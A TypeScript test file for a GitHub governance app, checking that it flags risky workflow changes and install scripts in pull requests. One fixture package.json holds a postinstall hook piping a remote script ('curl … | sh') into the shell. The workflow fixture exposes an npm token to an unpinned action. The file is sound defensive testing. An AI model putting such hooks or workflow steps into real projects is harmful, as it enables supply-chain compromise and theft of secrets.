/**
 * The finding rules end to end (workflow risk, install scripts): a webhook in, the
 * extra reads they need (a changed workflow's or manifest's text at the head commit)
 * asserted request by request, and the exact check run out. Nothing extra is read
 * when the policy does not ask for it.
 */
import nock from "nock";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  API,
  COMMANDS_LINE,
  COPILOT_HEADER,
  HEAD_SHA,
  mockCheckRun,
  mockEscalation,
  mockLabels,
  mockPolicy,
  mockPr,
  mockReviewRequest,
  mockToken,
  NOW,
  PR_URL,
  pullRequestPayload,
  RECHECK,
  receive,
  REPO_PATH,
  review,
  setupApp,
  teardown,
  type TestApp,
} from "../helpers/app.js";

let app: TestApp;
beforeEach(() => {
  app = setupApp();
  mockToken();
});
afterEach(() => {
  teardown();
});

const WORKFLOW = [
  "name: CI",
  "on: [push, pull_request]",
  "jobs:",
  "  test:",
  "    runs-on: ubuntu-latest",
  "    steps:",
  "      - uses: actions/checkout@v4",
  "      - uses: tj-actions/changed-files@v45",
  "      - run: npm ci && npm test",
  "        env:",
  "          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}",
  "",
].join("\n");
const WORKFLOW_PATCH = [
  "@@ -5,4 +5,7 @@ jobs:",
  "     runs-on: ubuntu-latest",
  "     steps:",
  "       - uses: actions/checkout@v4",
  "+      - uses: tj-actions/changed-files@v45",
  "       - run: npm ci && npm test",
  "+        env:",
  "+          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}",
].join("\n");
const PACKAGE = '{\n  "name": "hello-world",\n  "version": "1.0.1",\n  "scripts": {"test": "node test.js", "postinstall": "curl -s https://x.example/i.sh | sh"}\n}\n';
const PACKAGE_PATCH = '@@ -1,5 +1,5 @@\n {\n   "name": "hello-world",\n   "version": "1.0.1",\n-  "scripts": {"test": "node test.js"}\n+  "scripts": {"test": "node test.js", "postinstall": "curl -s https://x.example/i.sh | sh"}\n }';

const change = (filename: string, patch: string) => ({ filename, status: "modified", additions: 3, deletions: 1, changes: 4, patch });

/** `GET /repos/…/contents/{path}?ref={head}` as GitHub answers it for a file. */
function mockHeadFile(path: string, text: string): nock.Scope {
  return nock(API)
    .get(`${REPO_PATH}/contents/${encodeURIComponent(path)}`)
    .query({ ref: HEAD_SHA })
    .reply(200, { type: "file", encoding: "base64", path, size: Buffer.byteLength(text), content: Buffer.from(text).toString("base64") });
}

describe("compliance.workflow_risk and compliance.install_scripts, end to end", () => {
  it("reads the changed workflow and package.json at the head, and fails on what they add, at file:line", async () => {
    mockPolicy("compliance:\n  workflow_risk: true\n  install_scripts: true\n");
    mockPr({
      files: [change(".github/workflows/ci.yml", WORKFLOW_PATCH), change("package.json", PACKAGE_PATCH), change("src/app.ts", "@@ -1 +1 @@\n-a\n+b")],
      reviews: [review({ login: "alice" })],
      permissions: { alice: "admin" },
    });
    const workflow = mockHeadFile(".github/workflows/ci.yml", WORKFLOW);
    const pkg = mockHeadFile("package.json", PACKAGE);
    mockLabels({ add: ["agent-pr", "agent-policy-violation"] });
    mockEscalation();
    const check = mockCheckRun();
    await receive(app, "pull_request", pullRequestPayload({ action: "synchronize" }));
    expect(workflow.isDone() && pkg.isDone()).toBe(true);
    expect(check.body()).toEqual({
      name: "Agent Governance",
      head_sha: HEAD_SHA,
      started_at: NOW,
      status: "completed",
      conclusion: "failure",
      details_url: PR_URL,
      actions: RECHECK,
      output: {
        title: "Policy violation: compliance.install_scripts, compliance.workflow_risk",
        summary: [
          COPILOT_HEADER,
          "",
          "| | Rule | Result |",
          "| --- | --- | --- |",
          "| ✅ | `reviewers` | Human review: approved by @alice. |",
          "| ✅ | `paths.agent_files` | Changes to agent-steering files (`.github/workflows/ci.yml`): approved by @alice. |",
          "| ❌ | `compliance.install_scripts` | Install-time scripts added or changed: `postinstall` at `package.json:4`.<br>_Fix:_ Remove the install-time script or build hook, or ask an admin for `/governance override <reason>` after reviewing what it runs. |",
          "| ❌ | `compliance.workflow_risk` | Risky workflow changes: `tj-actions/changed-files@v45` at `.github/workflows/ci.yml:8`, `secrets.NPM_TOKEN` at `.github/workflows/ci.yml:11`.<br>_Fix:_ Pin actions to a full commit SHA, keep `permissions` read-only (grant `write` per job only where needed), do not check out a PR's code under `pull_request_target`/`workflow_run`, pass only the secrets a step needs, and use GitHub-hosted runners; or ask an admin for `/governance override <reason>` after review. |",
          "",
          "**Counted:**",
          "- @alice approved `ec26c3e` by review at 2026-11-20T11:00:00Z (reviewers, paths.agent_files)",
          "",
          COMMANDS_LINE,
        ].join("\n"),
        annotations: [
          { path: "package.json", start_line: 4, end_line: 4, annotation_level: "failure", title: "compliance.install_scripts", message: "`postinstall` runs on every install of this package." },
          {
            path: ".github/workflows/ci.yml",
            start_line: 8,
            end_line: 8,
            annotation_level: "failure",
            title: "compliance.workflow_risk",
            message: "`tj-actions/changed-files@v45` is not pinned to a full commit SHA: whoever controls the tag or branch controls what runs here.",
          },
          {
            path: ".github/workflows/ci.yml",
            start_line: 11,
            end_line: 11,
            annotation_level: "failure",
            title: "compliance.workflow_risk",
            message: "A new reference to the secret `NPM_TOKEN`: the job can now read (and leak) it.",
          },
        ],
      },
    });
    expect(nock.isDone()).toBe(true);
  });

  it("with `reviewers`, the findings wait for that team: its members are read and it is asked for review", async () => {
    mockPolicy("compliance:\n  workflow_risk:\n    reviewers: { teams: [Codertocat/platform] }\n");
    mockPr({
      files: [change(".github/workflows/ci.yml", WORKFLOW_PATCH)],
      reviews: [review({ login: "alice" })],
      permissions: { alice: "admin" },
      teams: { "Codertocat/platform": ["bob"] },
    });
    mockHeadFile(".github/workflows/ci.yml", WORKFLOW);
    mockLabels({ add: ["agent-pr", "needs-human-review"] });
    mockEscalation();
    const request = mockReviewRequest();
    const check = mockCheckRun();
    await receive(app, "pull_request", pullRequestPayload({ action: "synchronize" }));
    expect(request.body()).toEqual({ reviewers: [], team_reviewers: ["platform"] });
    const body = check.body() as { conclusion: string; output: { title: string; summary: string; annotations: unknown[] } };
    expect(body.conclusion).toBe("action_required");
    expect(body.output.title).toBe("Waiting for 1 human approval");
    expect(body.output.summary).toContain(
      "| ⏳ | `compliance.workflow_risk` | Risky workflow changes (`tj-actions/changed-files@v45` at `.github/workflows/ci.yml:8`, `secrets.NPM_TOKEN` at `.github/workflows/ci.yml:11`): 0/1 approvals; needs 1 more approval from @Codertocat/platform.",
    );
    expect(body.output.summary).toContain("**Still required:**\n- risky workflow changes: 1 more approval from @Codertocat/platform");
    expect(body.output.annotations).toEqual([
      {
        path: ".github/workflows/ci.yml",
        start_line: 8,
        end_line: 8,
        annotation_level: "warning",
        title: "compliance.workflow_risk",
        message: "`tj-actions/changed-files@v45` is not pinned to a full commit SHA: whoever controls the tag or branch controls what runs here. Needs approval: 1 more approval from @Codertocat/platform.",
      },
      {
        path: ".github/workflows/ci.yml",
        start_line: 11,
        end_line: 11,
        annotation_level: "warning",
        title: "compliance.workflow_risk",
        message: "A new reference to the secret `NPM_TOKEN`: the job can now read (and leak) it. Needs approval: 1 more approval from @Codertocat/platform.",
      },
    ]);
    expect(nock.isDone()).toBe(true);
  });

  it("reads nothing extra when the policy does not ask, though a workflow and package.json change", async () => {
    mockPolicy("reviewers:\n  required: 1\n");
    mockPr({
      files: [change(".github/workflows/ci.yml", WORKFLOW_PATCH), change("package.json", PACKAGE_PATCH)],
      reviews: [review({ login: "alice" })],
      permissions: { alice: "admin" },
    });
    mockLabels({ add: ["agent-pr"] });
    const check = mockCheckRun();
    await receive(app, "pull_request", pullRequestPayload({ action: "synchronize" }));
    const body = check.body() as { conclusion: string; output: { title: string } };
    expect([body.conclusion, body.output.title]).toEqual(["success", "Policy satisfied"]);
    expect(nock.isDone()).toBe(true);
  });
});
